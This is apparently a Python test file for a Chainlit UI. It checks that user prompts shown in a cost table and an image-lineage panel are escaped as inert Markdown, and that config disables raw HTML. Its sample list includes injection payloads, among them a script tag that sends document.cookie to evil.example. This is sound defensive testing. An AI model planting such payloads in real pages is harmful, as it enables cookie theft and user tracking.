"""Markdown, HTML and script in prompts must render inert in the UI.

Chainlit renders message and panel text as Markdown. With ``unsafe_allow_html = false`` raw
HTML is shown as text, but Markdown itself stays live: an image written ``![](url)`` is
fetched by every viewer's browser (in a shared thread too), and ``[text](url)`` becomes a
link. So wherever ui/ puts a user's prompt into Markdown it must escape it.
"""

from __future__ import annotations

import re
import tomllib
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from agent.store.records import ImageRecord
from ui.panels import BillRow, bill_markdown, lineage_markdown

REPO = Path(__file__).resolve().parents[2]

HOSTILE_PROMPTS = [  # short enough that the bill table does not truncate them
    "a cat ![b](https://t.example/p.png)",
    "see [site](https://evil.example/x)",
    "logo <img src=x onerror=alert(1)> please",
    "poster <script>fetch('https://evil.example/'+document.cookie)</script>",
    "autolink <https://evil.example/phish>",
    "**bold** _claim_ | broken | table",
]

# Live Markdown constructs: images, inline links, autolinks (not preceded by a backslash).
# Raw HTML tags are not listed: with unsafe_allow_html = false Chainlit shows them as text.
_LIVE = [
    re.compile(r"(?<!\\)!\[[^\]]*(?<!\\)\]\([^)\s]+\)"),  # ![alt](url)
    re.compile(r"(?<![\\!])\[[^\]]*(?<!\\)\]\([^)\s]+\)"),  # [text](url)
    re.compile(r"(?<!\\)<https?://[^>\s]+>"),  # <https://...>
]


def _live_markup(markdown: str) -> list[str]:
    return [m.group(0) for pattern in _LIVE for m in pattern.finditer(markdown)]


def _config() -> dict[str, object]:
    return tomllib.loads((REPO / ".chainlit" / "config.toml").read_text("utf-8"))


def test_chainlit_does_not_render_raw_html() -> None:
    features = _config()["features"]
    assert isinstance(features, dict)
    assert features["unsafe_allow_html"] is False


def test_user_messages_are_not_rendered_as_markdown() -> None:
    """``user_message_markdown = true`` makes a typed ``![](https://...)`` load a remote image
    in the author's and every shared-thread viewer's browser (a tracking pixel)."""
    features = _config()["features"]
    assert isinstance(features, dict)
    assert features.get("user_message_markdown", False) is False


def _row(prompt: str) -> BillRow:
    zero = Decimal(0)
    return BillRow(
        turn=1,
        status="ok",
        prompt=prompt,
        images=1,
        text_usd=zero,
        images_usd=zero,
        total_usd=zero,
        cumulative_usd=zero,
        estimated=False,
        unknown=False,
    )


def _image(prompt: str) -> ImageRecord:
    return ImageRecord(
        id="ig_0123456789abcdef",
        session_id="s",
        response_id="resp_1",
        turn=1,
        prompt=prompt,
        revised_prompt=prompt,
        action="generate",
        parent_id=None,
        model="gpt-image-2",
        size="1024x1024",
        quality="low",
        output_format="png",
        background="auto",
        path=Path("/nonexistent.png"),
        sha256="0" * 64,
        width=1024,
        height=1024,
        bytes=1,
        latency_ms=1,
        created_at=datetime.now(UTC),
        reasoning_item_id=None,
    )


@pytest.mark.parametrize("prompt", HOSTILE_PROMPTS)
def test_bill_table_shows_prompts_as_text(prompt: str) -> None:
    table = bill_markdown([_row(prompt)], Decimal("5"))
    assert _live_markup(table) == []
    header, _, body = table.splitlines()[:3]
    assert body.count("|") == header.count("|")  # the prompt cannot add or break columns


@pytest.mark.parametrize("prompt", HOSTILE_PROMPTS)
def test_lineage_shows_prompts_as_text(prompt: str) -> None:
    assert _live_markup(lineage_markdown([_image(prompt)])) == []


def test_the_checker_itself_sees_live_markup() -> None:
    """Guard for the helper above: it flags what it should and passes escaped text."""
    assert _live_markup("![a](https://x)")
    assert _live_markup("[a](https://x)")
    assert _live_markup("<https://x>")
    assert _live_markup(r"\!\[a\](https://x)") == []
    assert _live_markup(r"\[a\]\(https://x\)") == []
